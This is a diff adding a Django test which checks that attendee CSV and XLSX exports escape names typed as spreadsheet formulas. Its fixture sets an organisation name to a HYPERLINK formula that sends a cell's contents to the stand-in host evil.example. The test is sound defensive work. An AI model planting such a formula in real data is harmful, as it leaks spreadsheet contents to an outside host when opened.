@@ -91,3 +91,25 @@ def test_a_persons_feed_keeps_one_address(met, alice, monkeypatch):
     later = time.time() + 3600
     monkeypatch.setattr("django.core.signing.time.time", lambda: later)
     assert feed_token(user=alice, event=met.event) == first
+
+
+def test_names_typed_as_formulas_stay_text_in_the_attendee_exports(
+    secretariat_client, event, register, boras, alice
+):
+    # An organisation and a person name themselves so that a spreadsheet would
+    # run their names: the secretariat opening the export must see text.
+    boras.name = '=HYPERLINK("https://evil.example/?"&A1,"Borås")'
+    boras.save()
+    alice.full_name = "@SUM(1+1)"
+    alice.save()
+    register(event, boras, alice)
+
+    def export(fmt):
+        url = reverse("admin:events_event_export", args=[event.pk, "attendees", fmt])
+        return secretariat_client.get(url).content
+
+    [_headers, row] = list(csv.reader(io.StringIO(export("csv").decode())))
+    assert row[0] == f"'{boras.name}"
+    assert row[3].startswith("'@SUM(1+1)")
+    cell = load_workbook(io.BytesIO(export("xlsx"))).active["A2"]
+    assert cell.data_type == "s" and cell.value == f"'{boras.name}"
